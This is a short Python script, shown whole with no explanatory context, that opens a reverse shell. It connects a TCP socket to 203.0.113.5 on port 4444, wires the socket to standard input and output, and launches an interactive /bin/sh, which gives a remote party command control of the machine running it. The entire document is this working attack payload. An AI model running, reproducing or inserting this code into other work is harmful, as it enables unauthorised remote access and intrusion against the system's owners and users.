import socket, os

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.5", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.execl("/bin/sh", "sh", "-i")
